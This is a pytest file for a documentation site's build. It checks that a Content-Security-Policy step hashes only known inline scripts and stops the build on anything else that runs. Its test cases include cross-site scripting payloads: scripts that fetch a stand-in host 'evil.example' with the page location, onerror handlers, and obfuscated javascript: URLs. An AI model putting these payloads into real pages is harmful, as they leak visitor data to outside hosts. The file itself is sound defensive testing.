"""The page policy: only the inline scripts the theme and the site are known to emit, and nothing else that runs."""

import base64
import hashlib
import re
import shutil
from pathlib import Path

import pytest
from building import run_build

from sitebuild import PROJECT_ROOT, BuildError, csp

# The site's own storage helpers, as they appear on a page two levels down.
STORAGE_HELPERS = (
    (PROJECT_ROOT / "overrides" / "partials" / "javascripts" / "base.html")
    .read_text(encoding="utf-8")
    .split("<script>")[1]
    .split("</script>")[0]
    .replace("{{ config.extra.scope | d(base_url) }}", "../..")
)


def sha(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def page(body: str) -> str:
    return (
        "<!doctype html><html><head>"
        '<meta http-equiv="Content-Security-Policy" content="script-src \'self\' __INLINE_SCRIPT_HASHES__">'
        f"<script>{STORAGE_HELPERS}</script>"
        '<script id="__config" type="application/json">{"base": ".."}</script>'
        '<script src="x.js"></script>'
        f"</head><body>{body}<script>{STORAGE_HELPERS}</script></body></html>"
    )


def test_known_inline_scripts_are_hashed_once_each() -> None:
    assert csp.inline_script_hashes(page("<p>hi</p>")) == [sha(STORAGE_HELPERS)]
    assert f"script-src 'self' {sha(STORAGE_HELPERS)}\"" in csp.fill_policy(page(""))


def test_a_known_script_with_anything_but_a_path_in_its_template_value_is_unknown() -> None:
    forged = STORAGE_HELPERS.replace('new URL("../..",', 'new URL("x"+fetch("//evil.example")+"",')
    with pytest.raises(BuildError, match="inline <script>"):
        csp.inline_script_hashes(page(f"<script>{forged}</script>"))


@pytest.mark.parametrize(
    ("markup", "named"),
    [
        ("<script>fetch('//evil.example/?' + location)</script>", "an inline <script>"),
        ('<script type="module">import "//evil.example/x.js"</script>', "an inline <script>"),
        ('<img src="x" onerror="fetch(\'//evil.example\')">', "event attribute onerror="),
        ("<svg><a href='#' ONCLICK='x()'>a</a></svg>", "event attribute onclick="),
        ('<a href=" jav&#x09;ascript:alert(1)">click</a>', "javascript: URL in href="),
        ('<form><button formaction="JavaScript:alert(1)">go</button></form>', "javascript: URL in formaction="),
        ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "iframe srcdoc"),
    ],
)
def test_anything_else_that_runs_script_stops_the_build(markup: str, named: str) -> None:
    with pytest.raises(BuildError, match=r"docs/notes\.md") as raised:
        csp.fill_policy(page(markup), "notes/", "docs/notes.md")
    assert named in str(raised.value)
    assert str(raised.value).startswith("notes/ (from docs/notes.md)")


def test_data_blocks_and_code_shown_as_text_are_fine() -> None:
    shown = "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt; onerror=x javascript:y</code></pre>"
    words = '<script type="application/json" id="site-words">{"offline": {"saving": "Saving\\u003c/script>"}}</script>'
    assert csp.inline_script_hashes(page(shown + words)) == [sha(STORAGE_HELPERS)]


@pytest.mark.parametrize(
    ("markup", "named"),
    [
        ('<script type="application/json" id="site-words">{"offline": </script>', "not valid JSON"),
        ('<script type="application/json" id="other">{}</script>', "not a known data block"),
        ('<script id="__config" type="application/json">{}</script>', "a second data block <script id='__config'>"),
        ('<script type="application/json">{}</script>', "not a known data block"),
        ('<script type="text/plain" id="site-words">{}</script>', "not a known data block"),
        ("<script type=\"text/x-template\">fetch('//evil.example')</script>", "not a known data block"),
    ],
)
def test_a_data_block_is_known_by_what_it_is_not_by_being_there(markup: str, named: str) -> None:
    # The theme's instant navigation turns any script in a page's content into one that runs.
    with pytest.raises(BuildError, match=r"docs/notes\.md") as raised:
        csp.fill_policy(page(markup), "notes/", "docs/notes.md")
    assert named in str(raised.value)


def test_a_page_without_its_policy_stops_the_build() -> None:
    with pytest.raises(BuildError, match="no Content-Security-Policy"):
        csp.fill_policy("<!doctype html><html><body><p>hi</p></body></html>", "notes/", "docs/notes.md")
    assert csp.fill_policy("<urlset></urlset>") == "<urlset></urlset>"


# Real builds: the project's site with one docs page changed, as a careless editor might.


def build_with_page_line(tmp_path: Path, line: str):
    docs = tmp_path / "docs"
    shutil.copytree(PROJECT_ROOT / "docs", docs)
    edited = docs / "relationship" / "trust-and-safety.md"
    edited.write_text(edited.read_text(encoding="utf-8") + f"\n{line}\n", encoding="utf-8")
    config = tmp_path / "mkdocs.yml"
    config.write_text(
        f"INHERIT: {PROJECT_ROOT / 'mkdocs.yml'}\n"
        f"docs_dir: {docs}\n"
        f"hooks: [{PROJECT_ROOT / 'scripts' / 'mkdocs_hooks.py'}]\n"
        f"theme: {{name: material, custom_dir: {PROJECT_ROOT / 'overrides'}}}\n",
        encoding="utf-8",
    )
    return run_build(tmp_path / "site", "http://127.0.0.1:8000/", config_file=config)


@pytest.mark.parametrize(
    ("line", "named"),
    [
        ('<script>fetch("https://evil.example/?" + location.search)</script>', "an inline <script>"),
        ('<img src="x" onerror="fetch(\'https://evil.example/\')">', "an event attribute onerror="),
        ('<script type="application/json" id="site-words">{"x": 1}</script>', "a second data block"),
    ],
    ids=["script", "onerror", "words-lookalike"],
)
def test_script_in_a_docs_page_fails_a_real_build(tmp_path: Path, line: str, named: str) -> None:
    completed = build_with_page_line(tmp_path, line)
    assert completed.returncode != 0
    assert "relationship/trust-and-safety/ (from docs/relationship/trust-and-safety.md)" in completed.stderr
    assert named in completed.stderr


# A questionnaire's title reaches the paper page's Markdown: it is shown as text, whatever it holds.
HOSTILE_TITLE = '<img src=x onerror="alert(1)"> [help](javascript:alert(2)) *Trust* & safety {: onclick="x()" }'


@pytest.mark.parametrize(
    ("make_page", "heading_start"),
    [("paper", "Paper version: "), ("poster", "Waiting-room poster: ")],
)
def test_markup_in_a_questionnaire_title_is_shown_as_text(
    monkeypatch: pytest.MonkeyPatch, make_page: str, heading_start: str
) -> None:
    import dataclasses

    import markdown
    from mkdocs.config import load_config

    from sitebuild import forms

    real = forms.load_questionnaire
    monkeypatch.setattr(
        forms, "load_questionnaire", lambda *args: dataclasses.replace(real(*args), title=HOSTILE_TITLE)
    )
    from sitebuild import posters

    made = forms.paper_page_markdown if make_page == "paper" else posters.poster_page_markdown
    front_matter, source = made("check-in", "en").split("---\n", 2)[1:]
    assert "<img" not in front_matter and 'onerror="' not in front_matter  # the description, as an attribute
    config = load_config(str(PROJECT_ROOT / "mkdocs.yml"))
    rendered = markdown.markdown(
        source, extensions=config["markdown_extensions"], extension_configs=config["mdx_configs"]
    )
    heading = rendered.split('<a class="headerlink"')[0]  # the heading, up to its permalink
    assert "<img" not in heading and "<a" not in heading and "<em>" not in heading, heading
    assert " onclick=" not in heading.split(">", 1)[0]  # no attribute added to the heading itself
    csp.inline_script_hashes(page(rendered), "self-check/paper/check-in/", "questionnaire data")  # nothing runs
    import html

    shown = html.unescape(re.sub(r"<[^>]+>", "", heading)).strip()
    assert shown == f"{heading_start}{HOSTILE_TITLE}"
